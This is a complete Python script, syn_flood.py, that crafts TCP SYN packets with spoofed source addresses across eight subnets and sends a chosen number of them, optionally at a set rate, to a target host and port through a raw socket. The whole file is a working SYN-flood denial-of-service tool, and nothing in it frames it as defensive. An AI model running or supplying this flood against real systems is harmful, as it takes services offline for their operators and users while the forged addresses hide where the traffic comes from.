#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""SYN packets from forged addresses: syn_flood.py DESTINATION PORT PREFIX COUNT [A SECOND].

PREFIX is the first half of the sources, "10.78"; eight of its /24 are used. Prints packets and seconds.
"""
import socket
import struct
import sys
import time


def checksum(b):
    s = sum(struct.unpack(f'!{len(b) // 2}H', b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def packet(source, destination, port, n):
    src, dst = socket.inet_aton(source), socket.inet_aton(destination)
    tcp = struct.pack('!HHIIBBHHH', 1024 + n % 60000, port, n, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = src + dst + struct.pack('!BBH', 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack('!H', checksum(pseudo + tcp)) + tcp[18:]
    # The kernel fills the header's checksum and total length.
    return struct.pack('!BBHHHBBH4s4s', 0x45, 0, 0, n & 0xffff, 0, 64, 6, 0, src, dst) + tcp


def main():
    destination, port, prefix, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    ready = [packet(f'{prefix}.{n % 8}.{1 + n // 8 % 250}', destination, port, n) for n in range(4000)]
    rate = float(sys.argv[5]) if len(sys.argv) > 5 else 0
    begun = time.monotonic()
    for n in range(count):
        if rate and n % 50 == 0:
            time.sleep(max(0, begun + n / rate - time.monotonic()))
        try:
            s.sendto(ready[n % len(ready)], (destination, 0))
        except OSError:  # the interface's queue is full
            pass
    print(f'{count} packets in {time.monotonic() - begun:.2f} s')


if __name__ == '__main__':
    main()
